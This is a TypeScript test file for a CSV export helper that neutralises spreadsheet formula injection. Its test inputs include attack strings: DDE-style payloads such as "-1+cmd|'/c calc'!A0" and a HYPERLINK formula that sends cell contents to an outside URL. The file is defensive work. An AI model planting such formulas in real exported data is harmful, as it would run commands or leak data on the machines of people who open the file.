import { expect, it } from 'vitest';
import { csvCell, csvRow, withoutGuard } from './csv.ts';

const unquoted = (cell: string) => (cell[0] === '"' ? cell.slice(1, -1).replaceAll('""', '"') : cell);

it.each([
  ...['=1+1', '=cmd|x', '@SUM(A1)', '+SUM(A1)', '-2+3+cmd|x', '\t=1', '\r=1', '\n=1', '+1;DDE'],
  ...['＝1+1', '＋SUM(A1)', '－cmd|x', '＠SUM(A1)', '=HYPERLINK("https://example.com/"&A1,"x")'],
])('keeps a spreadsheet from running %j', (text) => {
  expect(unquoted(csvCell(text))[0]).toBe("'");
  expect(withoutGuard(unquoted(csvCell(text)))).toBe(text);
});

it.each(['a;=1+1', 'a; =1+1', 'a\n=1+1', 'a\r\n@SUM(A1)', 'a;＝1', "a;-1+cmd|'/c calc'!A0", 'a\t+SUM(A1)'])(
  'keeps a spreadsheet that splits at semicolons and breaks from running %j',
  (text) => {
    for (const part of unquoted(csvCell(text)).split(/[;\t\r\n]+/)) expect(part.trim()).toMatch(/^['a]/);
    expect(withoutGuard(unquoted(csvCell(text)))).toBe(text);
  },
);

it.each(['+33 1 23 45', '-5', '+1 (555) 010-0100', "'quoted'", 'a=b', 'O’Brien', ''])('leaves %j as it is', (text) => {
  expect(csvCell(text)).toBe(text);
  expect(withoutGuard(text)).toBe(text);
});

it.each(['Buy:\n- milk\n- bread', 'a; b', '+1 555 0100; +1 555 0101', "it's;'quoted'"])(
  'leaves the list %j as it is',
  (text) => {
    expect(unquoted(csvCell(text))).toBe(text);
    expect(withoutGuard(text)).toBe(text);
  },
);

it('quotes what would break the row', () => {
  expect(csvRow(['a,b', 'c"d', 'e\nf', 5, null, true])).toBe('"a,b","c""d","e\nf",5,,true\r\n');
});
